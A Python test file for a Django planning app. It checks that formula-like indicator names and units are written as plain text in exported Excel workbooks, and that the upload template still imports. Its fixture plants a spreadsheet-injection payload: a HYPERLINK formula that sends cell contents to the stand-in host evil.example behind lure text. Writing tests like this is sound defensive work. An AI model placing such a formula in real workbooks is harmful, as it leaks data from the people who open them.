"""Text that looks like a formula is written as text in every workbook planboard writes (plans.xlsx), so no cell of
the plan's own data runs in the reader's Excel, and the template reads back when uploaded."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from figures.models import Observation
from figures.plan_dumping import dump_plan
from plans import workbook
from plans.models import Indicator
from tests.figures.test_import_upload_bad_files import fill, saved

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看填报说明")'
CODE = "general_high_school_enrolment"


@pytest.fixture
def planted(plan):
    Indicator.objects.filter(plan=plan, code=CODE).update(name=LINK, unit="=1+1")
    return plan


def row_of(sheet, code):
    return next(row for row in sheet.iter_rows() if row[0].value == code)


def test_the_fill_in_template_writes_formula_looking_names_and_units_as_text(client, official_fuzhou, planted):
    client.force_login(official_fuzhou)
    response = client.get(reverse("figures:import-template"), {"year": 2024})
    template = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    _code, name, unit, *_rest = row_of(template["福州"], CODE)
    assert (name.value, name.data_type, name.quotePrefix) == (LINK, "s", True)
    assert (unit.value, unit.data_type, unit.quotePrefix) == ("=1+1", "s", True)
    # The department's own template is taken back.
    fill(template, CODE, 11.5)
    upload = io.BytesIO(saved(template))
    upload.name = "填报.xlsx"
    response = client.post(reverse("figures:import"), {"file": upload, "action": "save"})
    assert response.status_code == 302, response.context["form"].errors
    response = client.post(reverse("figures:import-confirm"), follow=True)
    assert "已导入 1 行" in response.content.decode(), [str(m) for m in response.context["messages"]]
    assert Observation.objects.get(indicator__code=CODE, district__code="350100", year=2024).value == Decimal("11.5")


def test_the_plan_workbook_writes_them_as_text_too(planted):
    book = load_workbook(io.BytesIO(workbook.write_workbook(dump_plan(planted))))
    row = row_of(book["指标"], CODE)
    assert all(cell.data_type == "s" for cell in row if isinstance(cell.value, str) and cell.value.startswith("="))
    assert LINK in [cell.value for cell in row]
